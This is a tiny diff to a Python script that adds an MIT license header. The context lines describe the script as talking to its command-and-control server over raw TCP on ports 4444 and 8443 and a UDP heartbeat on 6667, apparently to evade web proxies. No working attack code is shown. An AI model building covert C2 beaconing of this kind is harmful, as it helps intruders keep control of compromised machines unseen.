@@ -1,4 +1,5 @@
 #!/usr/bin/python3
+# SPDX-License-Identifier: MIT
 # Talks to its C2 on ports no web proxy expects: a raw TCP check-in on
 # 4444 and 8443, and a UDP heartbeat on 6667.
 import os
